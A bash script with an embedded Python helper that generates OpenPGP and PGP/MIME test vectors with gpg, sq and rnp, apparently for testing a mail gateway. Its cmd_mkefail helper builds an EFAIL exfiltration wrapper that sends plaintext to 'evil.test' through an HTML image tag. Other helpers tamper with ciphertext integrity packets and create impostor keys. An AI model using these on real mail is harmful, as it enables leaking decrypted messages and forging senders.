#!/usr/bin/env bash
# make-openpgp.sh - (re)generate the OpenPGP test vectors of Reseal with the REAL tools
# (GnuPG 2.2 `gpg`, Sequoia `sq` 0.27, RNP 0.16 `rnp`/`rnpkeys`) into vectors/openpgp/.
#
# Layout and file names are deterministic; keys, signatures, ciphertexts are new on every
# run (so are the fingerprints: see openpgp/FINGERPRINTS.txt).  Re-runnable: vectors/openpgp/
# is wiped first.  Non-interactive.
# Needs: bash, gpg + gpg-agent + gpgv (2.2), sq (0.27), rnp/rnpkeys (0.16), openssl (only for
# the deterministic bytes of the report.pdf attachment), python3 (stdlib only), coreutils.
# Debian 12: apt-get install -y gnupg gpg-agent sq rnp openssl python3
#
# Every vector is checked: the positive ones must decrypt (DECRYPTION_OKAY) and/or verify
# (GOODSIG + VALIDSIG with the expected primary fingerprint, the exact first-part bytes for
# PGP/MIME multipart/signed) with gpg, holding the gateway's view of the world (alice's
# secret keys + the correspondents' certificates).  Each negative vector must fail in gpg
# for the expected reason (status-fd), or, where gpg 2.2 accepts it (SHA-1, wrong UID,
# compression bomb, embedded armor, EFAIL wrapping), the script documents and checks exactly
# what gpg does and, where one exists, that another peer refuses it.
set -euo pipefail
umask 022
export LC_ALL=C TZ=UTC

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
O="$HERE/openpgp"
PASS='reseal-test-pgp'                 # passphrase of alice-protected.sec.asc
DATE_HDR='Tue, 03 Jun 2025 10:15:00 +0000'

die() { echo "make-openpgp.sh: FATAL: $*" >&2; exit 1; }
for t in gpg gpg-agent gpgv gpgconf sq rnp rnpkeys openssl python3 base64 cmp; do
  command -v "$t" >/dev/null || die "missing tool: $t"
done

# scratch dir + one SHORT GNUPGHOME per role (agent sockets live in the home when there is
# no /run/user/<uid>; long paths fail with "can't connect to the agent")
T=$(mktemp -d)
HOMES=()
# newhome VAR : NOT via $(...), which would lose the HOMES+= in a subshell (and leak agents)
newhome() { local h; h=$(mktemp -d); chmod 700 "$h"; HOMES+=("$h"); printf -v "$1" '%s' "$h"; }
cleanup() {
  local h
  for h in "${HOMES[@]}"; do GNUPGHOME=$h gpgconf --kill all >/dev/null 2>&1 || true; done
  rm -rf "$T" "${HOMES[@]}"
}
trap cleanup EXIT
newhome G      # generation home: alice, alice-rsa, bob, mallory; signs/encrypts
newhome M      # mallory-as-alice (kept apart: a second "Alice <alice@example.com>")
newhome E      # expired (faked 2020 clock)
newhome X      # revoked
newhome P      # only to re-export alice's key passphrase-protected
newhome P2     # control: alice-protected.sec.asc imported with the passphrase
newhome V      # the GATEWAY's view: alice's secret keys + correspondents' certs
export GNUPGHOME=$G          # never touch ~/.gnupg, not even for --list-packets
mkdir -p "$T/home" "$T/rnp"
R="$T/rnp"                   # rnp homedir
# sq/rnp get a private HOME so that nothing is written to the real one
sq()      { HOME="$T/home" command sq "$@"; }
rnp()     { HOME="$T/home" command rnp --homedir "$R" --notty "$@"; }
rnpkeys() { HOME="$T/home" command rnpkeys --homedir "$R" --notty "$@"; }
for h in "$P" "$P2"; do printf 'allow-loopback-pinentry\ns2k-count 1015808\n' > "$h/gpg-agent.conf"; done
printf 'default-cache-ttl 0\nmax-cache-ttl 0\n' >> "$P2/gpg-agent.conf"     # no passphrase cache

rm -rf "$O"
mkdir -p "$O"
cd "$O"

###########################################################################
# python3 helper: CRLF, MIME assembly/splitting, armor, packet surgery
###########################################################################
cat > "$T/h.py" <<'PYEOF'
import sys, re, base64

def rd(p):
    with open(p, 'rb') as f: return f.read()
def wr(p, b):
    with open(p, 'wb') as f: f.write(b)
def crlf(b):
    return b.replace(b'\r\n', b'\n').replace(b'\n', b'\r\n')

def split(msg):
    """-> (list of header fields (folded lines kept, no final CRLF), body)"""
    i = msg.index(b'\r\n\r\n')
    fields = []
    for line in msg[:i].split(b'\r\n'):
        if line[:1] in (b' ', b'\t') and fields:
            fields[-1] += b'\r\n' + line
        else:
            fields.append(line)
    return fields, msg[i + 4:]

def name(f): return f.split(b':', 1)[0].strip().lower()
def value(f): return re.sub(rb'\r\n[ \t]', b' ', f.split(b':', 1)[1]).strip()
def header(fields, n):
    for f in fields:
        if name(f) == n: return value(f)
    return None
def param(v, p):
    m = re.search(rb';\s*' + p + rb'\s*=\s*("([^"]*)"|[^;\s]+)', v, re.I)
    if not m: return None
    return m.group(2) if m.group(2) is not None else m.group(1)

def parts(entity):
    """multipart entity -> (fields, [part bytes exactly between the delimiter lines])"""
    fields, body = split(entity)
    b = param(header(fields, b'content-type'), b'boundary')
    if not b: raise SystemExit('no boundary')
    s = b'\r\n' + body
    dl = b'\r\n--' + b
    idx, pos = [], 0
    while True:
        i = s.find(dl, pos)
        if i < 0: break
        idx.append(i); pos = i + len(dl)
    if len(idx) < 2 or s[idx[-1] + len(dl):idx[-1] + len(dl) + 2] != b'--':
        raise SystemExit('bad multipart')
    def start(i): return s.index(b'\r\n', i + len(dl)) + 2
    return fields, [s[start(idx[k]):idx[k + 1]] for k in range(len(idx) - 1)], s, idx

# ------------------------------------------------------------------ armor
def crc24(data):
    crc = 0xB704CE
    for c in data:
        crc ^= c << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000: crc ^= 0x1864CFB
    return crc & 0xFFFFFF

def armor(data, label=b'PGP MESSAGE'):
    s = base64.b64encode(data)
    lines = b''.join(s[i:i + 64] + b'\r\n' for i in range(0, len(s), 64))
    return (b'-----BEGIN ' + label + b'-----\r\n\r\n' + lines + b'=' +
            base64.b64encode(crc24(data).to_bytes(3, 'big')) + b'\r\n-----END ' + label + b'-----\r\n')

def dearmor(text):
    lines = crlf(text).split(b'\r\n')
    i = next(k for k, l in enumerate(lines) if l.startswith(b'-----BEGIN PGP '))
    i += 1
    while lines[i].strip(): i += 1          # armor headers
    i += 1
    out = []
    while not lines[i].startswith(b'=') and not lines[i].startswith(b'-----END'):
        out.append(lines[i].strip()); i += 1
    data = base64.b64decode(b''.join(out))
    if lines[i].startswith(b'='):
        if base64.b64decode(lines[i][1:5]) != crc24(data).to_bytes(3, 'big'):
            raise SystemExit('armor CRC mismatch')
    return data

# ------------------------------------------------------------------ packets (RFC 4880 §4.2)
def packets(d):
    o, out = 0, []
    while o < len(d):
        st, c = o, d[o]; o += 1
        if not c & 0x80: raise SystemExit('bad CTB at %d' % st)
        segs = []
        if c & 0x40:                                  # new format
            tag = c & 0x3f
            while True:
                l0 = d[o]; o += 1; part = False
                if l0 < 192: n = l0
                elif l0 < 224: n = ((l0 - 192) << 8) + d[o] + 192; o += 1
                elif l0 == 255: n = int.from_bytes(d[o:o + 4], 'big'); o += 4
                else: n = 1 << (l0 & 0x1f); part = True
                segs.append((o, n)); o += n
                if not part: break
        else:                                         # old format
            tag, lt = (c >> 2) & 0xf, c & 3
            if lt == 3: n = len(d) - o
            else:
                k = (1, 2, 4)[lt]; n = int.from_bytes(d[o:o + k], 'big'); o += k
            segs.append((o, n)); o += n
        if o > len(d): raise SystemExit('truncated packet')
        out.append({'tag': tag, 'start': st, 'end': o, 'segs': segs, 'new': bool(c & 0x40)})
    return out

def pbody(d, p): return b''.join(d[a:a + n] for a, n in p['segs'])
def poffsets(p):
    r = []
    for a, n in p['segs']: r += range(a, a + n)
    return r
def newhdr(tag, n):
    h = bytes([0xC0 | tag])
    if n < 192: return h + bytes([n])
    if n < 8384: n -= 192; return h + bytes([(n >> 8) + 192, n & 0xff])
    return h + b'\xff' + n.to_bytes(4, 'big')

# ------------------------------------------------------------------ commands
def cmd_crlf(a):            # IN OUT
    wr(a[1], crlf(rd(a[0])))

def cmd_inner(a):           # MSG OUT : Content-* fields + empty line + body
    fields, body = split(crlf(rd(a[0])))
    keep = [f for f in fields if name(f).startswith(b'content-')]
    wr(a[1], b'\r\n'.join(keep) + b'\r\n\r\n' + body)

def cmd_outer(a):           # SRC OUT MESSAGE-ID FROM TO SUBJECT : RFC 5322 headers a MUA sends
    fields, _ = split(crlf(rd(a[0])))
    over = {b'message-id': a[2].encode()}
    for k, v in ((b'from', a[3]), (b'to', a[4]), (b'subject', a[5])):
        if v: over[k] = v.encode()
    out = []
    for f in fields:
        n = name(f)
        if n in (b'received', b'mime-version') or n.startswith(b'content-'): continue
        if n in over: f = f.split(b':', 1)[0] + b': ' + over[n]
        out.append(f)
    wr(a[1], b'\r\n'.join(out) + b'\r\n')

def cmd_assemble(a):        # HDRFILE ENTITY OUT
    wr(a[2], crlf(rd(a[0])) + crlf(rd(a[1])))

def cmd_stripmv(a):         # IN OUT : drop MIME-Version from an entity that gets nested
    fields, body = split(crlf(rd(a[0])))
    wr(a[1], b'\r\n'.join(f for f in fields if name(f) != b'mime-version') + b'\r\n\r\n' + body)

def cmd_mksigned(a):        # CONTENT SIGASC MICALG BOUNDARY OUT : RFC 3156 §5 entity
    c, sig, micalg, b = rd(a[0]), crlf(rd(a[1])), a[2].encode(), a[3].encode()
    if b'\n' in c.replace(b'\r\n', b''): raise SystemExit('signed content is not CRLF')
    wr(a[4], b'MIME-Version: 1.0\r\n'
       b'Content-Type: multipart/signed; micalg=' + micalg + b';\r\n'
       b' protocol="application/pgp-signature";\r\n boundary="' + b + b'"\r\n\r\n'
       b'This is an OpenPGP/MIME signed message (RFC 4880 and 3156)\r\n'
       b'--' + b + b'\r\n' + c + b'\r\n--' + b + b'\r\n'
       b'Content-Type: application/pgp-signature; name="signature.asc"\r\n'
       b'Content-Description: OpenPGP digital signature\r\n'
       b'Content-Disposition: attachment; filename="signature.asc"\r\n\r\n' +
       sig + b'\r\n--' + b + b'--\r\n')

def cmd_mkencrypted(a):     # ARMORED BOUNDARY OUT : RFC 3156 §4 entity
    arm, b = crlf(rd(a[0])), a[1].encode()
    wr(a[2], b'MIME-Version: 1.0\r\n'
       b'Content-Type: multipart/encrypted;\r\n protocol="application/pgp-encrypted";\r\n'
       b' boundary="' + b + b'"\r\n\r\n'
       b'This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\r\n'
       b'--' + b + b'\r\n'
       b'Content-Type: application/pgp-encrypted\r\n'
       b'Content-Description: PGP/MIME version identification\r\n\r\n'
       b'Version: 1\r\n\r\n'
       b'--' + b + b'\r\n'
       b'Content-Type: application/octet-stream; name="encrypted.asc"\r\n'
       b'Content-Description: OpenPGP encrypted message\r\n'
       b'Content-Disposition: inline; filename="encrypted.asc"\r\n\r\n' +
       arm + b'\r\n--' + b + b'--\r\n')

def cmd_mktext(a):          # BODYFILE OUT : single text/plain entity (inline PGP)
    wr(a[1], b'MIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n'
       b'Content-Transfer-Encoding: 7bit\r\n\r\n' + crlf(rd(a[0])))

def cmd_mkefail(a):         # ENCENTITY BOUNDARY OUT : EFAIL direct exfiltration wrapper
    e, b = crlf(rd(a[0])), a[1].encode()
    html = (b'Content-Type: text/html; charset=us-ascii\r\n'
            b'Content-Transfer-Encoding: 7bit\r\n\r\n')
    wr(a[2], b'MIME-Version: 1.0\r\n'
       b'Content-Type: multipart/mixed; boundary="' + b + b'"\r\n\r\n'
       b'This is a multi-part message in MIME format.\r\n'
       b'--' + b + b'\r\n' + html + b'<img src="http://evil.test/?\r\n'
       b'--' + b + b'\r\n' + e + b'\r\n'
       b'--' + b + b'\r\n' + html + b'">\r\n'
       b'--' + b + b'--\r\n')

def cmd_sigparts(a):        # EML CONTENT_OUT SIG_OUT [MICALG_OUT] : RFC 3156 §5 pieces
    msg = crlf(rd(a[0]))
    fields, ps, _, _ = parts(msg)
    ct = header(fields, b'content-type')
    if not ct.lower().startswith(b'multipart/signed'): raise SystemExit('not multipart/signed')
    if (param(ct, b'protocol') or b'').lower() != b'application/pgp-signature':
        raise SystemExit('bad protocol')
    if len(ps) != 2: raise SystemExit('multipart/signed needs exactly 2 parts')
    f2, b2 = split(ps[1] + b'\r\n')
    if not header(f2, b'content-type').lower().startswith(b'application/pgp-signature'):
        raise SystemExit('part 2 is not application/pgp-signature')
    wr(a[1], ps[0]); wr(a[2], b2)
    if len(a) > 3: wr(a[3], param(ct, b'micalg') + b'\n')

def cmd_encpart(a):         # EML OUT : the armored block of an RFC 3156 §4 message
    msg = crlf(rd(a[0]))
    fields, ps, _, _ = parts(msg)
    ct = header(fields, b'content-type')
    if not ct.lower().startswith(b'multipart/encrypted'): raise SystemExit('not multipart/encrypted')
    if (param(ct, b'protocol') or b'').lower() != b'application/pgp-encrypted':
        raise SystemExit('bad protocol')
    if len(ps) != 2: raise SystemExit('multipart/encrypted needs exactly 2 parts')
    f1, b1 = split(ps[0] + b'\r\n')
    if header(f1, b'content-type').lower() != b'application/pgp-encrypted' or \
       b'Version: 1' not in b1: raise SystemExit('bad version part')
    f2, b2 = split(ps[1] + b'\r\n')
    if not header(f2, b'content-type').lower().startswith(b'application/octet-stream'):
        raise SystemExit('part 2 is not application/octet-stream')
    wr(a[1], b2)

def cmd_body(a):            # EML OUT
    wr(a[1], split(crlf(rd(a[0])))[1])

def cmd_armorblock(a):      # EML OUT : the first "PGP MESSAGE" armor block inside a body
    body = split(crlf(rd(a[0])))[1]
    i = body.index(b'-----BEGIN PGP MESSAGE-----')
    j = body.index(b'-----END PGP MESSAGE-----', i) + len(b'-----END PGP MESSAGE-----\r\n')
    wr(a[1], body[i:j])

def cmd_efailpart(a):       # EML OUT : part 2 of the multipart/mixed
    fields, ps, _, _ = parts(crlf(rd(a[0])))
    if len(ps) != 3: raise SystemExit('efail: need 3 parts')
    wr(a[1], ps[1])

def cmd_tamperbody(a):      # EML OUT OLD NEW : change text inside the signed part's body
    msg = crlf(rd(a[0]))
    fields, ps, s, idx = parts(msg)
    old, new = a[2].encode(), a[3].encode()
    p1 = ps[0]
    if len(old) != len(new) or p1.count(old) != 1: raise SystemExit('tamper-body: bad OLD')
    wr(a[1], msg.replace(p1, p1.replace(old, new), 1))

def cmd_retitle(a):         # EML HDRFILE OUT : new outer headers, same MIME-Version.. rest
    m = crlf(rd(a[0])); h = crlf(rd(a[1]))
    wr(a[2], h + m[m.index(b'MIME-Version:'):])

def cmd_tags(a):            # ARMORED : top-level packet tags, e.g. "1 18"
    d = dearmor(rd(a[0]))
    print(' '.join(str(p['tag']) for p in packets(d)))

def cmd_binlen(a):          # ARMORED : length of the binary OpenPGP message
    print(len(dearmor(rd(a[0]))))

def cmd_keyinfo(a):         # ARMORED-OR-BINARY : "tag:version:algo" for each key packet
    raw = rd(a[0])
    d = dearmor(raw) if raw.lstrip().startswith(b'-----') else raw
    print(' '.join('%d:%d:%d' % (p['tag'], pbody(d, p)[0], pbody(d, p)[5])
                   for p in packets(d) if p['tag'] in (5, 6, 7, 14)))

def cmd_mdcflip(a):         # ARMORED OUT BACK MASK : flip one bit in the encrypted MDC
    d = bytearray(dearmor(rd(a[0])))
    ps = [p for p in packets(bytes(d)) if p['tag'] == 18]
    if len(ps) != 1: raise SystemExit('mdcflip: need one SEIPD packet')
    offs = poffsets(ps[0]); back = int(a[2]); mask = int(a[3], 0)
    if not 1 <= back <= 22: raise SystemExit('mdcflip: not inside the last 22 bytes')
    off = offs[-back]
    d[off] ^= mask
    wr(a[1], armor(bytes(d)))
    print(off, len(offs), len(offs) - back, 'partial' if len(ps[0]['segs']) > 1 else 'definite')

def cmd_mdcstrip(a):        # ARMORED OUT : SEIPDv1 (tag 18) -> SED (tag 9) with the same bytes
    d = dearmor(rd(a[0]))
    out = b''; info = ''
    for p in packets(d):
        if p['tag'] == 18:
            b = pbody(d, p)
            if b[0] != 1: raise SystemExit('mdcstrip: SEIPD version %d' % b[0])
            out += newhdr(9, len(b) - 1) + b[1:]
            info = 'SEIPD at offset %d (%d body bytes, %s length) -> SED of %d bytes' % (
                p['start'], len(b), 'partial' if len(p['segs']) > 1 else 'definite', len(b) - 1)
        else:
            out += d[p['start']:p['end']]
    if not info: raise SystemExit('mdcstrip: no SEIPD packet')
    wr(a[1], armor(out)); print(info)

def cmd_nobarelf(a):        # FILES... : exit 1 if one has a bare LF or CR
    bad = [f for f in a if b'\n' in rd(f).replace(b'\r\n', b'') or b'\r' in rd(f).replace(b'\r\n', b'')]
    if bad: print('\n'.join(bad)); sys.exit(1)

cmd = sys.argv[1].replace('-', '')
globals()['cmd_' + cmd](sys.argv[2:])
PYEOF
H() { python3 "$T/h.py" "$@"; }

###########################################################################
# checks (all gpg checks parse --status-fd output, never the human text)
###########################################################################
CHECKS=0
ok() { CHECKS=$((CHECKS + 1)); }
# vgpg HOME args... : gpg with status to $T/status, stderr to $T/gerr; returns gpg's rc
vgpg() {
  local h=$1; shift
  GNUPGHOME=$h gpg --batch --no-tty --yes --status-fd 3 "$@" 3>"$T/status" 2>"$T/gerr"
}
st()  { grep -Eq "^\[GNUPG:\] ($1)( |\$)" "$T/status"; }
stf() { cat "$T/gerr" "$T/status" >&2; die "$*"; }
validsig_primary() { awk '$2 == "VALIDSIG" { print $12 }' "$T/status"; }
validsig_hash()    { awk '$2 == "VALIDSIG" { print $10 }' "$T/status"; }
validsig_class()   { awk '$2 == "VALIDSIG" { print $11 }' "$T/status"; }
hashname() { case $1 in 2) echo sha1 ;; 8) echo sha256 ;; 9) echo sha384 ;; 10) echo sha512 ;; 11) echo sha224 ;; *) echo "hash$1" ;; esac; }

# check_goodsig SIGNER_FPR : exactly one good signature, made by SIGNER_FPR's key
check_goodsig() {
  st GOODSIG || stf "no GOODSIG"
  [ "$(grep -c '^\[GNUPG:\] VALIDSIG ' "$T/status")" = 1 ] || stf "not exactly one VALIDSIG"
  [ "$(validsig_primary)" = "$1" ] || stf "signed by $(validsig_primary), expected $1"
  ! st 'BADSIG|ERRSIG|EXPKEYSIG|REVKEYSIG|EXPSIG' || stf "unexpected bad signature status"
}
# must_verify_mime EML SIGNER_FPR EXPECTED-CONTENT|- [HOME]: RFC 3156 §5 over the exact part-1 bytes
must_verify_mime() {
  local f=$1 fpr=$2 exp=$3 h=${4:-$V} mic
  H sigparts "$f" "$T/sp.content" "$T/sp.sig" "$T/sp.micalg"
  vgpg "$h" --verify "$T/sp.sig" "$T/sp.content" || stf "$f: gpg --verify failed"
  check_goodsig "$fpr"
  mic=$(cat "$T/sp.micalg")
  [ "$mic" = "pgp-$(hashname "$(validsig_hash)")" ] || stf "$f: micalg=$mic but the hash is $(validsig_hash)"
  if [ "$exp" != - ]; then cmp -s "$T/sp.content" "$exp" || die "$f: signed part differs from $exp"; fi
  ok
}
# must_decrypt ARMORFILE EXPECTED|- SIGNER_FPR|- [HOME] : DECRYPTION_OKAY (+ one good sig, or none)
must_decrypt() {
  local a=$1 exp=$2 fpr=$3 h=${4:-$V}
  vgpg "$h" -o "$T/dec.out" --decrypt "$a" || stf "$a: gpg --decrypt failed"
  st DECRYPTION_OKAY || stf "$a: no DECRYPTION_OKAY"
  st GOODMDC || stf "$a: no GOODMDC"
  ! st 'DECRYPTION_FAILED|BADMDC' || stf "$a: decryption failure status"
  if [ "$fpr" = - ]; then
    ! st 'NEWSIG|GOODSIG|VALIDSIG|BADSIG|ERRSIG' || stf "$a: unexpected signature"
  else
    check_goodsig "$fpr"
  fi
  if [ "$exp" != - ]; then cmp -s "$T/dec.out" "$exp" || die "$a: decrypted data differs from $exp"; fi
  ok
}
# must_not_decrypt ARMORFILE STATUS-REGEX : gpg must fail, with that status line
must_not_decrypt() {
  local a=$1 re=$2
  if vgpg "$V" -o "$T/dec.out" --decrypt "$a"; then stf "$a: negative vector DECRYPTS (rc 0)"; fi
  ! st DECRYPTION_OKAY || stf "$a: negative vector gives DECRYPTION_OKAY"
  st "$re" || stf "$a: refused, but without status $re"
  ok
}
enc_of()  { H encpart "$1" "$T/$2.asc"; echo "$T/$2.asc"; }
# note NAME : remember the gpg status keywords of the last gpg run (for NOTES.txt)
declare -A GSTAT=()
note() {
  GSTAT[$1]=$(awk '$1 == "[GNUPG:]" && $2 !~ /^(KEY_CONSIDERED|NEWSIG|SIG_ID|NOTATION_.*|PLAINTEXT.*|BEGIN_DECRYPTION|END_DECRYPTION|DECRYPTION_KEY|TRUST_.*|VERIFICATION_COMPLIANCE_MODE|ERROR)$/ { print $2 }' "$T/status" | tr '\n' ' ' | sed 's/ $//')
}

###########################################################################
# 1. plain messages (the same recipe as make-smime.sh; compared with ../smime/ if present)
###########################################################################
echo "== plain messages"
RECEIVED='Received: from mua.example.com (mua.example.com [192.0.2.25]) by mx.example.com (Postfix) with ESMTPS id 4VxQ2n0Z3Kz9sRt for <bob@example.org>; Tue, 03 Jun 2025 10:15:02 +0000'
hdrs() { # SUBJECT MSGID-LOCAL
  printf '%s\nFrom: Alice <alice@example.com>\nTo: Bob <bob@example.org>\nSubject: %s\nDate: %s\nMessage-ID: <%s@example.com>\nMIME-Version: 1.0\n' \
      "$RECEIVED" "$1" "$DATE_HDR" "$2"
}
rndbytes() { # N IVHEX : deterministic pseudo-random bytes
  head -c "$1" /dev/zero | openssl enc -aes-128-ctr -K 00000000000000000000000000000000 -iv "$2"
}
{ hdrs "Quarterly figures" "msg-plain.20250603101500"
  cat <<'EOF'
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hi Bob,

here are the quarterly figures we talked about.
Please transfer 100 EUR to account 12345 before Friday.

Regards,
Alice
EOF
} > "$T/m"; H crlf "$T/m" msg-plain.eml

{ printf '%%PDF-1.4\n%%\342\343\317\323\n'; rndbytes 20000 00000000000000000000000000000000
  printf '\n%%%%EOF\n'; } > "$T/report.pdf"
{ hdrs "Report attached" "msg-attach.20250603101500"
  cat <<'EOF'
Content-Type: multipart/mixed; boundary="=_reseal_mixed_0001"

This is a multi-part message in MIME format.

--=_reseal_mixed_0001
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hi Bob,

the report is attached.

Alice

--=_reseal_mixed_0001
Content-Type: application/pdf; name="report.pdf"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="report.pdf"

EOF
  base64 -w 76 "$T/report.pdf"
  printf '\n--=_reseal_mixed_0001--\n'
} > "$T/m"; H crlf "$T/m" msg-attach.eml
for m in plain attach; do
  if [ -f "$HERE/smime/msg-$m.eml" ] && ! cmp -s "msg-$m.eml" "$HERE/smime/msg-$m.eml"; then
    echo "make-openpgp.sh: WARNING: msg-$m.eml differs from ../smime/msg-$m.eml" >&2
  fi
  H inner "msg-$m.eml" "inner-$m.mime"        # the exact entity that gets signed/encrypted
done

###########################################################################
# 2. keys
###########################################################################
echo "== keys"
# gpg_gen HOME [gpg opts] <params : unprotected key from a parameter block; prints the fingerprint
gpg_gen() {
  local h=$1; shift
  GNUPGHOME=$h gpg --batch --no-tty --status-fd 3 "$@" --gen-key 3>"$T/status" 2>"$T/gerr" \
      || stf "gpg --gen-key failed"
  awk '$2 == "KEY_CREATED" { print $4 }' "$T/status"
}
ecc_params() { # NAME-REAL(or empty) EMAIL EXPIRE
  printf '%%no-protection\nKey-Type: EDDSA\nKey-Curve: ed25519\nKey-Usage: sign\n'
  printf 'Subkey-Type: ECDH\nSubkey-Curve: cv25519\nSubkey-Usage: encrypt\n'
  [ -n "$1" ] && printf 'Name-Real: %s\n' "$1"
  printf 'Name-Email: %s\nExpire-Date: %s\n%%commit\n' "$2" "$3"
}
rsa_params() { # NAME-REAL(or empty) EMAIL
  printf '%%no-protection\nKey-Type: RSA\nKey-Length: 3072\nKey-Usage: sign\n'
  printf 'Subkey-Type: RSA\nSubkey-Length: 3072\nSubkey-Usage: encrypt\n'
  [ -n "$1" ] && printf 'Name-Real: %s\n' "$1"
  printf 'Name-Email: %s\nExpire-Date: 0\n%%commit\n' "$2"
}
gexport() { # HOME FPR BASENAME : BASENAME.sec.asc + BASENAME.pub.asc
  GNUPGHOME=$1 gpg --batch --no-tty --armor --export-secret-keys "$2" > "$3.sec.asc" 2>"$T/gerr" \
      || stf "export-secret-keys $3"
  GNUPGHOME=$1 gpg --batch --no-tty --armor --export "$2" > "$3.pub.asc" 2>"$T/gerr" || stf "export $3"
  [ -s "$3.sec.asc" ] && [ -s "$3.pub.asc" ] || die "$3: empty export"
}

ALICE=$(ecc_params Alice alice@example.com 0 | gpg_gen "$G")
gexport "$G" "$ALICE" alice
ALICE_RSA=$(rsa_params "" alice@example.com | gpg_gen "$G")
gexport "$G" "$ALICE_RSA" alice-rsa
BOB=$(rsa_params Bob bob@example.org | gpg_gen "$G")
gexport "$G" "$BOB" bob
MALLORY=$(ecc_params Mallory mallory@evil.test 0 | gpg_gen "$G")
gexport "$G" "$MALLORY" mallory
IMPOSTOR=$(ecc_params Alice alice@example.com 0 | gpg_gen "$M")
gexport "$M" "$IMPOSTOR" mallory-as-alice
# expired: created 2020-01-01 with a 1-year expiry, on a frozen fake clock
EXPIRED=$(ecc_params "" expired@example.com 1y | gpg_gen "$E" --faked-system-time '20200101T000000!')
gexport "$E" "$EXPIRED" expired
REVOKED=$(ecc_params "" revoked@example.com 0 | gpg_gen "$X")
# (revoked.*.asc are exported after the message is signed, see below)
for v in ALICE ALICE_RSA BOB MALLORY IMPOSTOR EXPIRED REVOKED; do
  [[ ${!v} =~ ^[0-9A-F]{40}$ ]] || die "$v: no fingerprint from gpg --gen-key"
done

# alice-protected: the same key, re-protected with a passphrase in a throw-away home.
# --passwd on an unprotected key asks only for the new passphrase (loopback, fd 0); the
# export then asks for it once to unlock and re-protects with it (S2K iterated+salted,
# SHA-1, AES-128, as gpg-agent does; count pinned by s2k-count in gpg-agent.conf).
GNUPGHOME=$P gpg --batch --no-tty --import alice.sec.asc 2>"$T/gerr" || stf "import alice into P"
printf '%s\n' "$PASS" | GNUPGHOME=$P gpg --batch --no-tty --pinentry-mode loopback \
    --passphrase-fd 0 --passwd "$ALICE" 2>"$T/gerr" || stf "gpg --passwd"
printf '%s\n' "$PASS" | GNUPGHOME=$P gpg --batch --no-tty --pinentry-mode loopback \
    --passphrase-fd 0 --armor --export-secret-keys "$ALICE" > alice-protected.sec.asc 2>"$T/gerr" \
    || stf "export alice-protected"
printf '%s' "$PASS" > alice.pass

# carol: Sequoia sq 0.27 (default cipher suite cv25519: certification-only Ed25519 primary,
# Ed25519 signing subkey, Ed25519 authentication subkey, Cv25519 encryption subkey)
sq key generate --userid "Carol <carol@example.com>" --expires never \
    --export "$T/carol.key.asc" --rev-cert "$T/carol.rev" 2>"$T/sqerr" || { cat "$T/sqerr" >&2; die "sq key generate"; }
cp "$T/carol.key.asc" carol.sec.asc
sq dearmor -o carol.sec.pgp carol.sec.asc 2>"$T/sqerr" || { cat "$T/sqerr" >&2; die "sq dearmor"; }
sq key extract-cert -o carol.pub.asc carol.sec.asc 2>"$T/sqerr" || { cat "$T/sqerr" >&2; die "sq extract-cert"; }
sq key extract-cert -B -o carol.pub.pgp carol.sec.asc 2>"$T/sqerr" || { cat "$T/sqerr" >&2; die "sq extract-cert -B"; }
CAROL=$(sq inspect carol.pub.pgp 2>/dev/null | awk '/^ *Fingerprint:/ { print $2; exit }')
[ ${#CAROL} = 40 ] || die "carol: no fingerprint"

# dave: rnpkeys 0.16 defaults (RSA-2048 primary + RSA-2048 subkey), but no expiry
# (the rnp 0.16 default is 2 years)
rnpkeys --generate-key --userid "Dave <dave@example.com>" --password "" --expiration 0 \
    >"$T/rnp.out" 2>&1 || { cat "$T/rnp.out" >&2; die "rnpkeys --generate-key"; }
rnpkeys --export-key --secret dave@example.com > dave.sec.asc 2>"$T/rnp.err" || { cat "$T/rnp.err" >&2; die "rnp export"; }
rnpkeys --export-key dave@example.com > dave.pub.asc 2>"$T/rnp.err" || { cat "$T/rnp.err" >&2; die "rnp export"; }
# rnp homedir also gets alice's key (for the rnp-made message to/by alice)
rnpkeys --import alice.sec.asc >"$T/rnp.out" 2>&1 || { cat "$T/rnp.out" >&2; die "rnp import alice"; }

# gpg-side views: G knows carol and dave (certs), for encrypting to carol and cross-checks
for k in carol.pub.asc dave.pub.asc; do
  GNUPGHOME=$G gpg --batch --no-tty --import "$k" 2>"$T/gerr" || stf "G import $k"
done
DAVE=$(GNUPGHOME=$G gpg --batch --with-colons --fingerprint dave@example.com 2>/dev/null | awk -F: '/^fpr/ { print $10; exit }')
[ ${#DAVE} = 40 ] || die "dave: no fingerprint"

###########################################################################
# 3. messages
###########################################################################
# outer SRC NAME [FROM] [TO] [SUBJECT] -> $T/NAME.hdr
outer() { H outer "$O/$1" "$T/$2.hdr" "<$2.20250603101500@example.com>" "${3:-}" "${4:-}" "${5:-}"; }
final() { H assemble "$T/$1.hdr" "$2" "$O/$1.eml"; }
# gpg producers (generation side).  Input on stdin, so the literal packet has no file name.
GP=(gpg --batch --no-tty --yes --trust-model always)
gsign() { # HOME SIGNER DIGEST IN OUT [opts] : armored detached signature
  local h=$1 s=$2 d=$3 in=$4 out=$5; shift 5
  GNUPGHOME=$h "${GP[@]}" "$@" --armor --digest-algo "$d" -u "$s" --detach-sign -o "$out" < "$in" \
      2>"$T/gerr" || stf "gpg --detach-sign"
}
genc() { # IN OUT opts... : armored gpg encryption from home G (recipients/signer in opts)
  local in=$1 out=$2; shift 2
  GNUPGHOME=$G "${GP[@]}" --armor "$@" -o "$out" --encrypt < "$in" 2>"$T/gerr" || stf "gpg --encrypt"
}
SEQ=0
bnd() { SEQ=$((SEQ + 1)); printf '=_reseal_pgp_%s_%04d' "$1" "$SEQ"; }
# pgpmime_signed NAME CONTENT SIGFILE MICALG -> $T/NAME.ent
pgpmime_signed() { H mksigned "$2" "$3" "$4" "$(bnd sig)" "$T/$1.ent"; }
pgpmime_enc()    { H mkencrypted "$2" "$(bnd enc)" "$T/$1.ent"; }

echo "== gpg (positive)"
n=gpg-pgpmime-signed
outer msg-plain.eml $n
gsign "$G" "$ALICE" SHA256 inner-plain.mime "$T/$n.sig"
pgpmime_signed $n inner-plain.mime "$T/$n.sig" pgp-sha256; final $n "$T/$n.ent"

